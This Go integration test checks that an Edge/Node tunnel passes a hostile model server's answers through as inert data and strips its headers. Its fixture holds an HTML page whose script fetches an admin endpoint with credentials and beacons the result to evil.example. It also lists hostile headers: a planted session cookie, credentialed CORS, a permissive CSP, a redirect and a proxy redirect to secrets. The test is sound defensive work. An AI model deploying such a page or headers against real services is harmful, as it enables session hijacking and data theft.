package integration

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/iop-dev/iop/internal/edge/auth"
	"github.com/iop-dev/iop/internal/fakes/fakeollama"
)

// hostileOllama is a model server that answers the Edge's clients as if
// it were the Edge's policy: every answer carries a cookie for the Edge's
// host, CORS for its own site with credentials and a permissive CSP, and
// its chat answers are an HTML page with a script. Everything else is a
// fake Ollama's, so that the Node finds its models.
type hostileOllama struct {
	fake *fakeollama.Server
	srv  *httptest.Server
}

const hostilePage = `<!doctype html><html><body><script>fetch("/admin/v1/nodes",{credentials:"include"}).then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/loot",t))</script></body></html>`

// hostilePolicy is what the server sets on every answer.
var hostilePolicy = [][2]string{
	{"Set-Cookie", "iop_session=attacker; Path=/; SameSite=None; Secure"},
	{"Access-Control-Allow-Origin", "https://evil.example"},
	{"Access-Control-Allow-Credentials", "true"},
	{"Access-Control-Allow-Headers", "*"},
	{"Content-Security-Policy", "default-src * 'unsafe-inline' 'unsafe-eval'"},
	{"X-Frame-Options", "ALLOWALL"},
	{"Strict-Transport-Security", "max-age=0"},
	{"Refresh", "0; url=https://evil.example/"},
	{"Link", "<https://evil.example/x.js>; rel=preload; as=script"},
	{"WWW-Authenticate", `Basic realm="IOP Edge login"`},
	{"X-Accel-Redirect", "/internal/secrets"},
}

func newHostileOllama(t *testing.T, models ...fakeollama.Model) *hostileOllama {
	t.Helper()
	h := &hostileOllama{fake: fakeollama.New(models...)}
	t.Cleanup(h.fake.Close)
	h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for _, kv := range hostilePolicy {
			w.Header().Add(kv[0], kv[1])
		}
		if r.Method == http.MethodPost && r.URL.Path == "/api/chat" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, hostilePage)
			return
		}
		h.fake.ServeHTTP(w, r)
	}))
	t.Cleanup(h.srv.Close)
	return h
}

// R3, issue 24 gap 8: through real edged and noded, a hostile model
// server's answers reach a client on the Edge's origin as data, never as
// the Edge's policy: its HTML page comes as application/octet-stream with
// nosniff and the Edge's CSP, its bytes unchanged; its cookie, CORS, CSP,
// framing, refresh, preload, login prompt and proxy redirect are dropped
// from that answer and from a streamed generate answer, whose NDJSON
// content type and lines pass as Ollama wrote them.
func TestTunnelPassesAModelServersContentNotItsPolicy(t *testing.T) {
	const key = "sk-tunnel-headers-0001"
	hostile := newHostileOllama(t, fakeollama.Model{Name: "evil:latest", Text: "hello from a hostile server"})
	dir := t.TempDir()
	quicPort, httpPort := freePort(t, "udp"), freePort(t, "tcp")
	base := fmt.Sprintf("http://127.0.0.1:%d", httpPort)
	edgeConf := filepath.Join(dir, "edge.yaml")
	writeFile(t, edgeConf, fmt.Sprintf(`
listen: {quic: "127.0.0.1:%d", http: "127.0.0.1:%d"}
identity: {mode: loopback}
api: {keys: [{principal: app, sha256: %s}], admin_reads: open}
principals: [{name: app, routes: ['*']}]
`, quicPort, httpPort, auth.HashKey(key)))
	start(t, "edged", bin.edged, "run", "--config", edgeConf)
	nodeConf := filepath.Join(dir, "node.yaml")
	writeFile(t, nodeConf, fmt.Sprintf(`
node_id: n1
edge: {address: "127.0.0.1:%d"}
identity: {mode: loopback}
providers: [{name: ollama, adapter: ollama, config: {base_url: %q}}]
`, quicPort, hostile.srv.URL))
	start(t, "noded", bin.noded, "run", "--config", nodeConf)
	waitNode(t, base, "n1", "ready with ollama online", func(n nodeView) bool {
		return n.State == "ready" && len(n.Providers) == 1 && n.Providers[0].State == "online"
	})

	post := func(path, body string) (*http.Response, string) {
		t.Helper()
		req, _ := http.NewRequestWithContext(t.Context(), http.MethodPost, base+path, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+key)
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Origin", "https://evil.example")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("POST %s: %v", path, err)
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatalf("POST %s: reading the answer: %v", path, err)
		}
		return resp, string(b)
	}
	noPolicy := func(what string, h http.Header) {
		t.Helper()
		for _, kv := range hostilePolicy {
			if kv[0] == "Content-Security-Policy" || strings.HasPrefix(kv[0], "Access-Control-") {
				continue // the Edge's own CSP, and every CORS header, checked below
			}
			if v := h.Values(kv[0]); len(v) > 0 {
				t.Errorf("%s: the server's %s reached the client: %q", what, kv[0], v)
			}
		}
		for name := range h {
			if strings.HasPrefix(name, "Access-Control-") {
				t.Errorf("%s: %s reached the client: %q", what, name, h.Values(name))
			}
		}
		if v := h.Values("X-Content-Type-Options"); !slices.Equal(v, []string{"nosniff"}) {
			t.Errorf("%s: X-Content-Type-Options %q, want nosniff", what, v)
		}
		for _, csp := range h.Values("Content-Security-Policy") {
			if strings.Contains(csp, "unsafe") || strings.Contains(csp, "*") {
				t.Errorf("%s: the server's CSP reached the client: %q", what, csp)
			}
		}
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") {
			t.Errorf("%s: Content-Security-Policy %q, want the Edge's default-src 'none'", what, csp)
		}
	}

	resp, body := post("/api/chat", `{"model":"evil:latest","messages":[{"role":"user","content":"hi"}]}`)
	if resp.StatusCode != http.StatusOK || body != hostilePage {
		t.Errorf("chat: %s %q; want the server's bytes as they came", resp.Status, body)
	}
	if ct := resp.Header.Values("Content-Type"); !slices.Equal(ct, []string{"application/octet-stream"}) {
		t.Errorf("chat: Content-Type %q; want application/octet-stream (the server said text/html)", ct)
	}
	noPolicy("chat", resp.Header)

	resp, body = post("/api/generate", `{"model":"evil:latest","prompt":"hi"}`)
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, `"done":true`) || !strings.Contains(body, "hostile") {
		t.Errorf("generate: %s %q", resp.Status, body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Errorf("generate: Content-Type %q; want Ollama's application/x-ndjson", ct)
	}
	noPolicy("generate", resp.Header)
}
